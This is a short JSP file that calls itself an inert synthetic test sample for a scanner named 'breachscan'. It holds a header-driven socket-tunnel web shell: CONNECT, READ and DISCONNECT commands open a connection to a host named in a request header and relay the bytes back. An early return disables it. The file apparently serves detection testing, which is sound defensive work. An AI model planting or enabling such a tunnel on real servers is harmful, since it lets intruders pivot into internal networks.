<%-- synthetic test sample for breachscan: socket tunnel keyed by a request header. Inert: returns before anything runs. --%>
<%@ page import="java.nio.*,java.nio.channels.*,java.net.*" %>
<%
    if (true) { out.print("synthetic sample"); return; }
    String cmd = request.getHeader("X-Cmd");
    if ("CONNECT".equals(cmd)) {
        SocketChannel sc = SocketChannel.open();
        sc.connect(new InetSocketAddress(request.getHeader("X-Host"), 9));
        session.setAttribute("sock", sc);
    } else if ("READ".equals(cmd)) {
        SocketChannel sc = (SocketChannel) session.getAttribute("sock");
        ByteBuffer buf = ByteBuffer.allocate(512);
        sc.read(buf);
        response.getOutputStream().write(buf.array());
    } else if ("DISCONNECT".equals(cmd)) {
        session.removeAttribute("sock");
    }
%>
